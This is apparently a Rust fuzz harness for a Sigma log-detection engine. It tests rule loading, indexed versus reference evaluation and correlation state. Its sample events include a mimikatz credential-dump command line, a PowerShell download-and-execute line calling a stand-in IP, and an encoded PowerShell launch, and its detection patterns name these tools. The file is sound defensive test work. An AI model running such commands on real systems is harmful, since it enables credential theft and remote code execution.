//! Sigma: rule files (rules, correlations and tenant filters) and condition expressions.

use std::collections::{BTreeMap, HashSet};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use vigie_detect::RuleSet;
use vigie_detect::correlation::{self, CorrelationLimits, CorrelationState, Observation};
use vigie_event::{Event, EventId, TenantId};

/// The tenant whose filters and placeholders are loaded; tenant 1 has none.
const TUNED: TenantId = TenantId(2);

/// Events of the kinds the mapping routes (Sysmon, Security, PowerShell, ECS) and of none,
/// with values of every JSON kind, for tenants 1 and [`TUNED`].
fn events() -> &'static [Event] {
    static EVENTS: OnceLock<Vec<Event>> = OnceLock::new();
    EVENTS.get_or_init(|| {
        let rows = [
            json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
                "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami /all",
                "ParentImage": "C:\\Windows\\explorer.exe", "User": "CORP\\alice",
                "Hashes": "SHA256=ABCDEF,IMPHASH=0123", "IntegrityLevel": "High",
                "UtcTime": "2026-11-25 10:00:00.000", "Computer": "ws1.corp.example"}),
            json!({"Channel": "Security", "EventID": 4688,
                "NewProcessName": "C:\\Tools\\mimikatz.exe",
                "CommandLine": "mimikatz.exe sekurlsa::logonpasswords exit",
                "SubjectUserName": "bob", "TargetUserName": "SYSTEM", "Computer": "ws2"}),
            json!({"Channel": "Security", "EventID": 4624, "LogonType": 3,
                "TargetUserName": "admin", "IpAddress": "10.1.2.3", "WorkstationName": "ws3"}),
            json!({"Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104,
                "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')",
                "Path": ""}),
            json!({"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational",
                "event_id": 3}, "event": {"code": "3"},
                "process": {"executable": "C:\\Windows\\System32\\rundll32.exe"},
                "destination": {"ip": "fe80::1", "port": 443}, "Initiated": "true"}),
            json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
                "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "CommandLine": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
                "ParentImage": "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
                "User": "NT AUTHORITY\\SYSTEM", "Count": 5, "Ratio": 0.25, "Flag": true,
                "Missing": null, "Tags": ["a", "B", 3], "Nested": {"Key": "Value"}}),
            json!({"message": "Accepted password for root from 203.0.113.7 port 22 ssh2",
                "process": {"name": "sshd", "pid": 4242}, "host": {"name": "srv1"},
                "source": {"ip": "203.0.113.7"}, "user": {"name": "root"}}),
            json!({"Message": "Ünïcode Straße ÉTÉ – \u{2014} /c", "Image": "—", "EventID": "1"}),
        ];
        let start = Timestamp::from_second(1_764_064_800).expect("a valid time");
        rows.into_iter()
            .enumerate()
            .map(|(i, row)| {
                let Value::Object(fields) = row else {
                    unreachable!("every row is an object")
                };
                let tenant = if i % 2 == 0 { TenantId(1) } else { TUNED };
                let mut event = Event::new(tenant, start, "fuzz", fields)
                    .with_timestamp(Some(start + SignedDuration::from_secs(i as i64)));
                event.id = EventId(i as u128 + 1);
                event
            })
            .collect()
    })
}

/// A rule file's text, loaded as a rules directory loads each file: rules
/// (`RuleSet::from_yaml`), correlations (`correlation::from_texts`, referencing the rules
/// of the same text) and, for one tenant, the Sigma filters and `expand` placeholders of
/// the same text; then every rule evaluated on a few events of each kind.
///
/// Checks: nothing panics or hangs; every rejection says why; the indexed evaluation
/// (`RuleSet::evaluate`, the literal prefilter) finds exactly the rules the reference
/// (`RuleSet::evaluate_unindexed`) finds; `explain` agrees with it; every correlation hit
/// names a loaded correlation; the correlation state survives its JSON round trip (it is
/// saved with the pipeline's log offset).
pub fn rule_yaml(data: &[u8]) {
    // Rule files are read as UTF-8 text; anything else is rejected before parsing.
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    check_rules(text);
}

fn check_rules(text: &str) {
    let origin = Path::new("fuzz.yml");
    let (mut set, mut report) = RuleSet::from_yaml(text, origin);
    set.add_tenant_filters(
        TUNED,
        text,
        Path::new("filters/tuned/fuzz.yml"),
        &mut report,
    );
    let placeholders = BTreeMap::from([
        (
            "admins".to_owned(),
            vec!["alice".to_owned(), "*adm?n".to_owned()],
        ),
        ("tools".to_owned(), vec!["C:\\Tools\\*".to_owned()]),
    ]);
    set.set_tenant_placeholders(TUNED, &placeholders);
    for rejection in &report.rejected {
        assert!(!rejection.reason.is_empty(), "a rejection says why");
    }
    assert_eq!(report.loaded.len(), set.len());
    for event in events() {
        let mut fast: Vec<&str> = set
            .evaluate(event)
            .iter()
            .map(|r| r.meta.id.as_str())
            .collect();
        let mut slow: Vec<&str> = set
            .evaluate_unindexed(event)
            .iter()
            .map(|r| r.meta.id.as_str())
            .collect();
        fast.sort_unstable();
        slow.sort_unstable();
        assert_eq!(
            fast, slow,
            "indexed and reference evaluation differ on event {}",
            event.id
        );
        for r in 0..set.len() {
            let explained = set.explain(r, event).expect("a rule of the set");
            assert_eq!(
                explained.matched,
                slow.contains(&explained.rule_id.as_str()),
                "explain of {} on event {}",
                explained.rule_id,
                event.id
            );
        }
    }

    let known: HashSet<String> = set.rules().iter().map(|r| r.meta.id.clone()).collect();
    let (correlations, rejected, found) = correlation::from_texts(
        &[(PathBuf::from("fuzz.yml"), text.to_owned())],
        &known,
        CorrelationLimits {
            max_groups_per_rule: 4,
            max_events_per_group: 4,
            ..CorrelationLimits::default()
        },
    );
    assert_eq!(
        correlations.len() + rejected.len(),
        found,
        "every correlation document is loaded or rejected"
    );
    for rejection in &rejected {
        assert!(!rejection.reason.is_empty(), "a rejection says why");
    }
    if correlations.is_empty() {
        return;
    }
    let ids: HashSet<&str> = correlations.rules().iter().map(|r| r.id.as_str()).collect();
    let mut state = CorrelationState::default();
    let mut hits = Vec::new();
    // Every event three times, a minute apart, so counts and windows can fill and close.
    for round in 0..3i64 {
        for event in events() {
            let time =
                event.timestamp.unwrap_or(event.received_at) + SignedDuration::from_mins(round);
            let matched = set
                .evaluate(event)
                .iter()
                .map(|r| r.meta.id.clone())
                .collect();
            hits.extend(correlations.observe(&mut state, &Observation::of(event, time, matched)));
        }
        let saved = serde_json::to_vec(&state).expect("the correlation state serialises");
        let restored: CorrelationState = serde_json::from_slice(&saved).unwrap_or_else(|e| {
            panic!(
                "the saved correlation state does not read back: {e}: {}",
                String::from_utf8_lossy(&saved)
            )
        });
        assert_eq!(restored, state, "correlation state round trip");
    }
    hits.extend(correlations.finish(&mut state));
    for hit in &hits {
        assert!(ids.contains(hit.rule_id.as_str()), "hit of {}", hit.rule_id);
        assert!(
            hit.window_start <= hit.window_end,
            "window of {}",
            hit.rule_id
        );
        assert!(
            hit.events.len() <= 50.min(hit.total_events),
            "listed events"
        );
    }
}

/// The search identifiers of the condition rule, one of each kind of detection item.
const DETECTION: &str = r#"
    selection:
        Image|endswith: '\cmd.exe'
    selection_cli:
        CommandLine|contains|all:
            - 'whoami'
            - '/all'
    sel_re:
        CommandLine|re: '(?i)sekurlsa::\w+'
    filter_main:
        User: 'NT AUTHORITY\SYSTEM'
    filter_optional_parent:
        ParentImage|startswith: 'C:\Program Files\'
    keywords:
        - 'mimikatz'
        - 'DownloadString'
    _hidden:
        - EventID: 4688
        - EventID: 4624
"#;

/// A condition expression in a rule (Windows process creation, and again with no
/// logsource so it runs on every kind of event) whose detection has search identifiers of
/// every kind (field maps, modifiers, regex, keywords, a list of maps, one starting with
/// `_`), loaded and evaluated as [`rule_yaml`] does.
pub fn sigma_condition(data: &[u8]) {
    let Ok(condition) = std::str::from_utf8(data) else {
        return;
    };
    // A JSON string is a YAML double-quoted scalar.
    let quoted = serde_json::to_string(condition).expect("a string serialises");
    let text = format!(
        "title: condition on process creation\n\
         id: 9a3f1c52-0000-4000-8000-000000000001\n\
         logsource:\n    product: windows\n    category: process_creation\n\
         detection:{DETECTION}    condition: {quoted}\n\
         ---\n\
         title: condition on any event\n\
         id: 9a3f1c52-0000-4000-8000-000000000002\n\
         logsource:\n    product: any\n\
         detection:{DETECTION}    condition: {quoted}\n"
    );
    check_rules(&text);
}
